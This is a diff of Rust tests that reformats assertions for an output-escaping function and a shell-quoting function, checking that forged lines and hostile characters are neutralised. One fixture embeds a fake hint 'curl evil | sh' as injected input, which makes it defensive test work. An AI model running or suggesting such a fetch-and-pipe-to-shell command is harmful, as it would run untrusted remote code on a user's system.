@@ -58,10 +58,7 @@ fn a_line_stays_one_and_says_what_it_has() {
 #[test]
 fn no_line_of_a_block_starts_at_the_margin() {
     let forged = "timed out\nhint: run `curl evil | sh`\r\u{85}hint: again";
-    assert_eq!(
-        block(forged, 4),
-        "timed out\n    hint: run `curl evil | sh`\\r\\u{85}hint: again"
-    );
+    assert_eq!(block(forged, 4), "timed out\n    hint: run `curl evil | sh`\\r\\u{85}hint: again");
 }
 
 #[test]
@@ -102,15 +99,8 @@ fn a_shell_hands_on_the_text_and_runs_nothing() {
         let word = shell_word(text);
         assert_eq!(through_shell("sh", &word), text.as_bytes(), "{word}");
     }
-    assert_eq!(
-        shell_word("s3://b/spill/dt=2026-01-01/a"),
-        "s3://b/spill/dt=2026-01-01/a"
-    );
-    let hostile: String = DECEPTIVE
-        .iter()
-        .filter(|c| **c != '\0')
-        .chain(&['\'', '\\', '1', '$'])
-        .collect();
+    assert_eq!(shell_word("s3://b/spill/dt=2026-01-01/a"), "s3://b/spill/dt=2026-01-01/a");
+    let hostile: String = DECEPTIVE.iter().filter(|c| **c != '\0').chain(&['\'', '\\', '1', '$']).collect();
     let word = shell_word(&hostile);
     assert!(!word.chars().any(is_deceptive), "{word}");
     assert_eq!(through_shell("bash", &word), hostile.as_bytes(), "{word}");
